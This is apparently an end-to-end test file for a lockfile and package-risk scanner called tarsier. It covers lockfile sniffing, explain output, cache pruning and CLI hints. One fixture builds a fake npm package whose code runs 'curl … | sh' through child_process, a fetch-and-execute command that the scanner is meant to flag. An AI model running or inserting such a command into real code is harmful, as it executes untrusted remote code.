// End-to-end: inputs recognised by content (--lockfile-kind to force one), unsupported
// ecosystems named, `explain`, `cache status|prune`, "did you mean", plurals, rounded durations
// and the resolved version of a spec without one (build/tarsier against the local registry).
#include <catch2/catch.hpp>
#include <filesystem>
#include <nlohmann/json.hpp>

#include "tests/support/pack.h"
#include "tests/support/paths.h"
#include "tests/support/process.h"
#include "tests/support/registry_server.h"

using namespace tarsier::test;
using nlohmann::json;

namespace {

std::string lockfile(const std::string& name, const std::string& version,
                     const std::string& integrity) {
  json lock = {{"name", "app"}, {"lockfileVersion", 3}, {"requires", true}};
  lock["packages"] = {{"", {{"name", "app"}, {"dependencies", {{name, version}}}}},
                      {"node_modules/" + name, {{"version", version}, {"integrity", integrity}}}};
  return lock.dump(2) + "\n";
}

ProcessResult run_tarsier(const TempDir& dir, std::vector<std::string> args,
                          const std::string& cwd = "") {
  args.insert(args.begin(), tarsier_binary());
  return run_process(args, isolated_env(dir.path()), cwd);
}

const char* k_risky =
    "const cp = require('child_process');\ncp.exec('curl -s https://x.example.invalid | sh');\n";

}  // namespace

TEST_CASE("a lockfile is recognised by its content; other ecosystems are named", "[e2e][inputs]") {
  RegistryServer registry;
  TempDir dir;
  std::string i1 = registry.publish("pad", "1.0.0",
                                    pack_npm_files({{"package.json", R"({"name":"pad"})"},
                                                    {"index.js", "module.exports = 1;\n"}}));
  std::string i2 = registry.publish("pad", "1.1.0",
                                    pack_npm_files({{"package.json", R"({"name":"pad"})"},
                                                    {"index.js", "module.exports = 2;\n"}}));
  std::string base = dir.write("base.json", lockfile("pad", "1.0.0", i1));
  std::string head = dir.write("package-lock.json", lockfile("pad", "1.1.0", i2));
  auto diff = run_tarsier(dir, {"diff", "-q", "--registry", registry.base_url(), "--ecosystem",
                                "npm", "-f", "json", base, head});
  INFO(diff.err);
  REQUIRE(diff.exit_code == 0);
  CHECK(json::parse(diff.out)["summary"]["changed"] == 1);

  std::string odd = dir.write("deps.txt", lockfile("pad", "1.0.0", i1));
  auto sniffed = run_tarsier(dir, {"list", odd});  // the name says nothing, the content does
  CHECK(sniffed.exit_code == 0);
  CHECK(sniffed.out.find("npm:pad@1.0.0") != std::string::npos);
  CHECK(sniffed.out.find("1 package from 1 lockfile") != std::string::npos);
  std::string pins = dir.write("pins.lst", "requests==2.31.0\n");
  CHECK(run_tarsier(dir, {"list", pins}).exit_code == 2);
  auto forced = run_tarsier(dir, {"list", "--lockfile-kind", "requirements.txt", pins});
  CHECK(forced.exit_code == 0);
  CHECK(forced.out.find("pypi:requests@2.31.0") != std::string::npos);
  CHECK(run_tarsier(dir, {"list", "--lockfile-kind", "nope", pins})
            .err.find("unknown --lockfile-kind") != std::string::npos);

  std::string cargo = dir.write("Cargo.lock", "version = 3\n\n[[package]]\nname = \"a\"\n");
  auto rust = run_tarsier(dir, {"list", cargo});
  CHECK(rust.exit_code == 2);
  CHECK(rust.err.find("Cargo.lock (Rust) lockfile: not supported") != std::string::npos);
  std::string gems = dir.write("locked.txt", "GEM\n  remote: https://gems.example.invalid/\n");
  CHECK(run_tarsier(dir, {"list", gems}).err.find("Gemfile.lock (Ruby) lockfile: not supported") !=
        std::string::npos);
}

TEST_CASE("explain shows each finding's code, its reasoning and the dependency path",
          "[e2e][explain]") {
  RegistryServer registry;
  TempDir dir;
  std::string integrity = registry.publish(
      "runner", "1.0.0",
      pack_npm_files({{"package.json", R"({"name":"runner"})"},
                      {"lib/run.js", std::string("// line 1\n// line 2\n") + k_risky}}));
  dir.write("app/package-lock.json", lockfile("runner", "1.0.0", integrity));
  auto run = run_tarsier(dir, {"explain", "--registry", registry.base_url(), "runner@1.0.0"},
                         dir.path() + "/app");
  INFO(run.out << run.err);
  REQUIRE(run.exit_code == 0);
  CHECK(run.out.find("npm:runner@1.0.0: risk") != std::string::npos);
  CHECK(run.out.find("prod dependency, direct") != std::string::npos);
  CHECK(run.out.find("lib/run.js:3") != std::string::npos);
  CHECK(run.out.find("why: ") != std::string::npos);
  CHECK(run.out.find("  > 3     | const cp = require('child_process');") != std::string::npos);
  CHECK(run.out.find("    2     | // line 2") != std::string::npos);
  CHECK(run.out.find("(fingerprint ") != std::string::npos);
  // Nothing was extracted: the archive cache holds archives only.
  for (const auto& entry : std::filesystem::recursive_directory_iterator(dir.path() + "/cache")) {
    CHECK(entry.path().filename() != "run.js");
  }

  SECTION("one finding by rule id, and an unknown one") {
    auto one = run_tarsier(
        dir, {"explain", "--registry", registry.base_url(), "runner@1.0.0", "no-such-rule"},
        dir.path() + "/app");
    CHECK(one.exit_code == 1);
    CHECK(one.err.find("no finding 'no-such-rule'") != std::string::npos);
  }
}

TEST_CASE("cache status and prune", "[e2e][cache]") {
  RegistryServer registry;
  TempDir dir;
  std::string integrity =
      registry.publish("pad", "2.0.0", pack_npm_files({{"package.json", R"({"name":"pad"})"}}));
  std::string lock = dir.write("app/package-lock.json", lockfile("pad", "2.0.0", integrity));
  auto fetched = run_tarsier(dir, {"fetch", "-q", "--registry", registry.base_url(), lock});
  INFO(fetched.out << fetched.err);
  REQUIRE(fetched.exit_code == 0);
  CHECK(fetched.out.find("1 package: 1 downloaded") != std::string::npos);
  CHECK(fetched.out.find("0 integrity mismatches; ") != std::string::npos);
  CHECK(fetched.out.find(" s\n") != std::string::npos);
  CHECK(fetched.out.find("e-0") == std::string::npos);  // no raw floating point

  auto status = run_tarsier(dir, {"cache", "status"});
  CHECK(status.out.find("1 archive, ") != std::string::npos);
  auto keep = run_tarsier(dir, {"cache", "prune", "--older-than", "30d"});
  CHECK(keep.out.find("removed 0 archives") != std::string::npos);
  auto trim = run_tarsier(dir, {"cache", "prune", "--max-size", "0"});
  CHECK(trim.out.find("removed 1 archive (") != std::string::npos);
  CHECK(run_tarsier(dir, {"cache", "status"}).out.find("0 archives") != std::string::npos);
  CHECK(run_tarsier(dir, {"cache", "prune", "--max-size", "lots"}).exit_code == 2);
}

TEST_CASE("small things: did you mean, a spec's resolved version", "[e2e][cli]") {
  RegistryServer registry;
  TempDir dir;
  registry.publish("left-pad", "1.3.0",
                   pack_npm_files({{"package.json", R"({"name":"left-pad"})"}}));
  auto typo = run_tarsier(dir, {"scan", "--fail-of", "high", "npm:left-pad"});
  CHECK(typo.exit_code == 2);
  CHECK(typo.err.find("did you mean --fail-on?") != std::string::npos);
  CHECK(typo.err.find("usage:") == std::string::npos);

  auto scan = run_tarsier(
      dir, {"scan", "-q", "--verbose", "--registry", registry.base_url(), "npm:left-pad"});
  INFO(scan.out << scan.err);
  CHECK(scan.exit_code == 0);
  CHECK(scan.out.find("npm:left-pad@1.3.0") != std::string::npos);
  CHECK(scan.out.find("1 package: 1 analysed") != std::string::npos);
}
